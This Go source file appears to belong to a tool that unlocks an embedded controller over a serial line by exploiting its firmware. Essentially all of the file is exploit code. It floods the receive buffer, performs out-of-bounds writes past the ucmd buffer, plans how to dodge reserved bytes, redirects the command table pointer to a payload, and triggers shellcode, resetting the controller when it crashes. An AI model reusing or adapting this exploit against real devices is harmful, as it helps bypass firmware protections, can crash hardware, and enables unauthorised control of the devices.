package emc

import (
	"encoding/binary"

	"go.uber.org/zap"

	"github.com/symbrkrs/emcbridge/internal/logging"
	"github.com/symbrkrs/emcbridge/internal/protocol"
)

const (
	// fillerUnit is the size of the controller's interrupt-side rx ring.
	fillerUnit = 160
	fillerLUT  = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

	// cursorToEnd moves the ucmd line cursor to the end of its buffer.
	cursorToEnd = 0x0c
)

// fillerFor returns the printable run that saturates the controller's
// receive path for the given multiplier.
func fillerFor(multiplier uint32) []byte {
	n := fillerUnit * int(multiplier)
	out := make([]byte, n)
	for i := range out {
		out[i] = fillerLUT[i%len(fillerLUT)]
	}
	return out
}

// oobOverwrite is sent right after the filler. It writes value past the end
// of the ucmd buffer, zeroes the buffer index behind it and NAKs.
func oobOverwrite(value [4]byte) []byte {
	out := make([]byte, 0, len(value)+3)
	out = append(out, cursorToEnd)
	out = append(out, value[:]...)
	out = append(out, 0, nakByte)
	return out
}

func isPrintable(b byte) bool {
	return b >= 0x20 && b < 0x80
}

// reservedByte reports bytes the controller's line parser acts on, which can
// never be part of an overwrite.
func reservedByte(b byte) bool {
	return b == '\b' || b == '\r' || b == '\n' || b == nakByte
}

// WriteOOB performs one out-of-bounds write of value after the ucmd receive
// buffer. The overwrite stops at the first printable byte, but the write
// length stays fixed so the timing is the same for every value.
func (s *Session) WriteOOB(value [4]byte) {
	s.Nak()

	filler := fillerFor(s.chip.FillerMultiplier)
	overwrite := oobOverwrite(value)

	s.write(filler, true)
	s.clock.Delay(s.chip.PwnDelay)
	s.write(overwrite, true)

	s.clock.Delay(s.chip.PostProcess)
	// The controller answers the filler with a burst of RxInputTooLong.
	s.rx.Clear()
}

// OverwritePlan returns the sequence of values WriteOOB must write to place
// addr, or false if addr contains a byte the line parser reserves.
//
// The bytes are checked from most to least significant. A printable byte
// terminates the overwrite, so for each one found an extra write is queued
// with it and every byte below it zeroed, landing the bytes above it first.
// The full value is always written last.
func OverwritePlan(addr uint32) ([][4]byte, bool) {
	var target [4]byte
	binary.LittleEndian.PutUint32(target[:], addr)
	for _, b := range target {
		if reservedByte(b) {
			return nil, false
		}
	}
	var plan [][4]byte
	for pos := len(target) - 1; pos >= 0; pos-- {
		if !isPrintable(target[pos]) {
			continue
		}
		pre := target
		for j := 0; j <= pos; j++ {
			pre[j] = 0
		}
		plan = append(plan, pre)
	}
	return append(plan, target), true
}

// OverwriteCmdTablePtr points the controller's command table at the payload.
func (s *Session) OverwriteCmdTablePtr() bool {
	plan, ok := OverwritePlan(s.fwConsts.UcmdBufAddr)
	if !ok {
		return false
	}
	for _, v := range plan {
		logging.Debug("oob write", zap.Binary("value", v[:]))
		s.WriteOOB(v)
	}
	return true
}

// ResolveConstants looks up the firmware constants for the connected
// controller. A successful lookup is cached until picofwconst is used.
func (s *Session) ResolveConstants() protocol.Result {
	if s.fwConstsSet {
		return protocol.NewSuccess("")
	}
	r := s.Version()
	if !r.IsSuccess() {
		return protocol.NewNg(protocol.StatusFwConstsVersionFailed, r.Format())
	}
	fc, ok := s.registry.Lookup(r.Response)
	if !ok {
		logging.Warn("Unknown firmware", zap.Error(s.registry.Unsupported(r.Response)))
		return protocol.NewNg(protocol.StatusFwConstsVersionUnknown, r.Response)
	}
	s.fwConsts = fc
	s.fwConstsSet = true
	logging.Info("Resolved firmware constants",
		zap.String("version", r.Response),
		zap.String("ucmd_ua_buf_addr", hex32(fc.UcmdBufAddr)))
	return protocol.NewSuccess("")
}

// IsUnlocked probes with a command that only succeeds after the shellcode
// has run.
func (s *Session) IsUnlocked() protocol.Result {
	s.Nak()
	return s.GetSerialNo()
}

// ExploitSetup resolves constants, places the payload and redirects the
// command table pointer.
func (s *Session) ExploitSetup() protocol.Result {
	r := s.ResolveConstants()
	if !r.IsSuccess() {
		return r
	}
	// Once per controller boot.
	r = s.craftAndSetPayload()
	if !r.IsSuccess() {
		return r
	}
	if !s.OverwriteCmdTablePtr() {
		return protocol.NewNg(protocol.StatusFwConstsInvalid, "")
	}
	return protocol.NewSuccess("")
}

// ExploitTrigger confirms the table pointer moved and runs the hook command.
func (s *Session) ExploitTrigger() protocol.Result {
	// With the table replaced, version is no longer a known command. A bad
	// pointer may crash the controller here.
	s.Nak()
	r := s.Version()
	if !r.IsNgStatus(protocol.StatusUcmdUnknownCmd) {
		return protocol.NewNg(protocol.StatusExploitVersionUnexpected, r.Format())
	}

	// The shellcode does not answer.
	s.CmdSend(HookCommand, true)

	return s.IsUnlocked()
}

// Unlock runs the whole unlock sequence. It is a no-op when the controller
// is already unlocked. If the trigger fails the controller is assumed to have
// crashed and is reset; the host should wait for the "UART CMD READY" banner
// (about 4.5s) before retrying.
func (s *Session) Unlock() protocol.Result {
	if s.inReset() {
		return protocol.NewNg(protocol.StatusEmcInReset, "")
	}

	// Power-up output may already be on the wire.
	s.rx.Clear()

	if r := s.IsUnlocked(); r.IsSuccess() {
		logging.Info("Controller already unlocked")
		return protocol.NewSuccess("")
	}

	if r := s.ExploitSetup(); r.IsNg() {
		logging.Warn("Unlock setup failed", zap.String("result", r.Format()))
		return r
	}

	r := s.ExploitTrigger()
	if r.IsSuccess() {
		logging.Info("Controller unlocked")
		return protocol.NewSuccess("")
	}

	// Crash recovery through the watchdog is unreliable; force it.
	logging.Warn("Unlock trigger failed, resetting controller", zap.String("result", r.Format()))
	s.EmcReset()
	return protocol.NewNg(protocol.StatusExploitFailedEmcReset, "")
}
